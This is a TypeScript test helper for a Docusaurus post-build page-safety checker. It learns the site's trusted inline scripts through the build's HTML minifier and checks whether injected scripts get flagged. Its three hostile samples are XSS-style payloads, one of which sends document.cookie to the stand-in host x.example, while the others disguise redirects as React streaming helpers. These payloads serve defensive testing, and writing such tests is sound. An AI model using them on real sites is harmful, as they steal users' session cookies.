/**
 * For ./learn.test.ts: learns the site's scripts with the build's HTML minifier (@swc/html through
 * @docusaurus/bundler, which loads it with a dynamic import jest's runtime cannot run, hence this tsx
 * child), then checks pages with them. Prints `{ site, themeInPage, probe, hostile }` as JSON.
 */
import { getHtmlMinifier } from '@docusaurus/bundler';
import { checkPage } from '../../../postbuild/pageSafety';
import { learnSiteScripts, renderReactProbe } from '../learn';

/** The theme's colour-mode script as theme-classic writes it, unminified. */
const THEME_SOURCE = `<script>
(function() {
  var theme = window.localStorage.getItem('theme');
  document.documentElement.setAttribute('data-theme', theme || 'light');
})();
</script>`;

async function main() {
  const minifier = await getHtmlMinifier({ type: 'swc' });
  const minify = async (html: string) => (await minifier.minify(html)).code;
  const site = await learnSiteScripts({
    headTags: '<meta name="x" content="y">',
    preBodyTags: THEME_SOURCE,
    postBodyTags: '',
    minify,
    staticDirectories: ['static'],
    pluginPages: ['docs/index.html'],
  });
  const trust = { site, isOwn: () => false, isStatic: false, isPluginPage: false };
  const themeInPage = await minify(`<!doctype html><html><head></head><body>${THEME_SOURCE}<div></div></body></html>`);
  // A page React renders (another render than the one learned from), minified as the build minifies pages.
  const rendered = await minify(
    `<!doctype html><html><head></head><body>${THEME_SOURCE}<div id="__docusaurus">${await renderReactProbe()}</div></body></html>`,
  );
  const hostilePage = (script: string) =>
    `<!doctype html><html><head></head><body><div id="__docusaurus"><template id="B:0"></template>` +
    `<div hidden id="S:0"></div><script>${script}</script></div></body></html>`;
  const hostile = [
    '$RX=0;location="//x.example/?"+document.cookie',
    `${site.react.complete}("B:0","S:0");location="//x.example"`,
    `${site.react.constants[0]};location="//x.example"`,
  ].map((script) => ({ script, kinds: checkPage(hostilePage(script), trust).problems.map((p) => p.kind) }));
  process.stdout.write(JSON.stringify({ site, themeInPage, probe: checkPage(rendered, trust), hostile }));
}

void main();
